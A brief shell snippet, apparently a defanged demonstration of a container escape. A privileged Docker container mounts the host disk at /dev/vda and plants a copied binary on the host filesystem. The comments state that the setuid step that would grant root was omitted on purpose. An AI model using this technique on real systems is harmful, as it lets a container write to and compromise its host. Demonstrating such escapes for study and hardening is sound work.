# Copied, but without the bit that makes it root.
# says: rootsleep runs on the host as user 1000, and as nobody else: the file is not setuid.
docker run -d --name thief --privileged alpine sleep 3600
docker exec thief sh -c 'mkdir /disk && mount -t ext4 /dev/vda /disk
  cd /disk && cp usr/bin/sleep usr/local/bin/rootsleep'
setpriv --reuid 1000 --regid 1000 --clear-groups setsid -f rootsleep 3600 > /dev/null 2>&1 < /dev/null
